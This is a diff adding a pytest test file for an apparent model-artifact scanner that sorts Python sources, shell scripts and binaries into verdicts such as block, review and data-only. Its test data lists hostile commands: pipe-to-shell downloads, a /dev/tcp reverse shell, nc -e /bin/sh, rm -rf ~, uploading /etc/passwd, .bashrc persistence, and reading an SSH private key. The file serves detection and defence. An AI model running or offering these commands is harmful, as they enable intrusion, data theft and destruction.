@@ -1,0 +1,97 @@
+"""Sources beside a model get the verdict of what they do, and machine code is never part of one."""
+
+from __future__ import annotations
+
+import marshal
+
+import pytest
+
+from ancile.formats.shell_source import hostile
+from ancile.scan.examine import Examination, examine_part
+from ancile.scan.part import Part
+
+
+def examined(data: str | bytes, name: str = "file.py") -> Examination:
+    return examine_part(Part(name, data.encode() if isinstance(data, str) else data))
+
+
+@pytest.mark.parametrize(
+    ("text", "verdict"),
+    [
+        ("import os\nos.system('x')", "block"),
+        ("def f(x):\n    return eval(x)", "block"),
+        ("import os\ndef f():\n    os.popen('x')", "block"),
+        ("import os\ndef f():\n    os.popen('x')\nif __name__ == '__main__':\n    f()", "review"),
+        ("import requests\ndef f():\n    requests.get('x')", "review"),
+        ("import requests\nrequests.get('x')", "block"),
+        ("open('/root/.ssh/id_rsa').read()", "block"),
+        ("import torch\nclass M(torch.nn.Module):\n    pass", "named-classes"),
+        ("import json\nprint(json.dumps(1))", "data-only"),
+        ("import x y", "incomplete"),
+    ],
+)
+def test_python_gets_the_verdict_of_what_it_does(text: str, verdict: str) -> None:
+    assert examined(text).verdict == verdict
+
+
+def test_a_plain_source_names_the_packages_to_pin() -> None:
+    assert examined("import torch, os\nfrom transformers import x").packages == ("torch", "transformers")
+
+
+def test_prose_is_no_python() -> None:
+    assert examined("never import pickle.load of what you do not know", "README.md").verdict == "data-only"
+
+
+@pytest.mark.parametrize("name", ["a.pth", "sitecustomize.py"])
+def test_what_python_runs_at_startup_is_blocked(name: str) -> None:
+    assert examined("import x", name).verdict == "block"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s http://x | sh",
+        "wget -qO- x | sudo bash",
+        "bash <(curl -s x)",
+        'sh -c "$(curl -fsSL x)"',
+        "echo aWQ= | base64 -d | bash",
+        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+        "nc -e /bin/sh 1.2.3.4 9",
+        "rm -rf ~",
+        "curl -F f=@/etc/passwd x",
+        "echo x >> ~/.bashrc",
+        "wget x -O /tmp/a\nchmod +x /tmp/a && /tmp/a",
+        "powershell -enc x",
+        "pip install --index-url http://x y",
+        "curl http://x/$(whoami)",
+    ],
+)
+def test_commands_of_attacks_are_told(command: str) -> None:
+    assert hostile(command)
+    assert examined(f"#!/bin/sh\n{command}\n", "run.sh").verdict == "block"
+
+
+@pytest.mark.parametrize(
+    "command", ["python train.py --lr 1", "pip install torch", "wget https://x/data.zip", "ls -l"]
+)
+def test_ordinary_commands_are_not(command: str) -> None:
+    assert not hostile(command)
+    assert examined(f"#!/bin/sh\n{command}\n", "run.sh").verdict == "data-only"
+
+
+def test_a_script_under_the_name_of_weights_is_blocked() -> None:
+    assert examined("#!/bin/sh\ntrue\n", "model.bin").verdict == "block"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x7fELF\2\1\1" + bytes(60),
+        b"MZ" + bytes(60),
+        b"\xcf\xfa\xed\xfe" + bytes(60),
+        b"\0asm\1\0\0\0" + bytes(8),
+        b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("1", "x", "exec")),
+    ],
+)
+def test_machine_code_is_blocked_under_any_name(data: bytes) -> None:
+    assert examined(data, "model.safetensors").verdict == "block"
